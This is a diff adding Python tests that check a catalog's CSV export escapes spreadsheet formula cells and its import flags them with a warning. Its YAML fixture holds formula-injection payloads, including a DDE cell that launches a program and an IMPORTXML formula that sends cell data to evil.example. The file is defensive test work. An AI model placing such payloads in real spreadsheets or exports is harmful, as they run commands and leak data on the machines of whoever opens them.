@@ -1,4 +1,6 @@
+import csv
 import gc
+import io
 from datetime import date
 
 from catalog.format import (
@@ -213,3 +215,63 @@ def test_objects_built_in_a_big_pause_are_kept_out_of_later_collections() -> Non
         assert gc.get_freeze_count() >= frozen_before + len(kept)
     finally:
         gc.unfreeze()
+
+
+FORMULA_YAML = b"""\
+version: 1
+name: Formuly
+institutions:
+  - id: mopr-siedlce
+    name: "=HYPERLINK(\\"http://evil.example\\",\\"MOPR\\")"
+    short_name: "@SUM(1+1)*cmd|' /C calc'!A0"
+    address: "+SUM(1,2)"
+    place: miasto Siedlce
+    phones: ["+48 25 600 00 01"]
+    services:
+      - id: mopr-zasilki
+        name: "-2+3+cmd|' /C calc'!A0"
+        description: "\\t=IMPORTXML(CONCAT(\\"http://evil.example/?\\", A1), \\"//a\\")"
+        situations: [poverty]
+        ages: "-17"
+"""
+
+
+def test_csv_export_neutralises_cells_a_spreadsheet_would_run() -> None:
+    document = CatalogDocument.model_validate(read_yaml(FORMULA_YAML).data)
+
+    rows = list(csv.reader(io.StringIO(write_csv(document, delimiter=";")), delimiter=";"))
+
+    cells = [cell for row in rows[1:] for cell in row]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert '\'=HYPERLINK("http://evil.example","MOPR")' in cells
+    assert "'+48 25 600 00 01" in cells
+
+
+def test_csv_export_read_back_gives_the_same_values_and_no_warning() -> None:
+    document = CatalogDocument.model_validate(read_yaml(FORMULA_YAML).data)
+
+    raw = read_csv(write_csv(document, delimiter=";").encode(), filename="formuly.csv")
+
+    assert raw.problems == ()
+    again = CatalogDocument.model_validate(raw.data)
+    assert again.institutions[0].name == document.institutions[0].name
+    assert again.institutions[0].services[0].ages == "-17"
+    assert again.institutions[0].phones == ["+48 25 600 00 01"]
+
+
+def test_csv_import_warns_of_formula_cells_with_their_row() -> None:
+    text = "\n".join(
+        [
+            CSV_HEADER,
+            'mopr;=HYPERLINK("http://x");miasto Siedlce;;;+48 25 600 00 01;mopr-a;A;poverty',
+            'mopr;=HYPERLINK("http://x");miasto Siedlce;;;+48 25 600 00 01;mopr-b;@cmd;poverty',
+        ]
+    )
+
+    raw = read_csv(text.encode(), filename="kus.csv")
+
+    assert [(p.code, p.line, p.params["column"], p.severity) for p in raw.problems] == [
+        ("catalog.csv_formula", 2, "institution_name", "warning"),
+        ("catalog.csv_formula", 3, "institution_name", "warning"),
+        ("catalog.csv_formula", 3, "service_name", "warning"),
+    ]
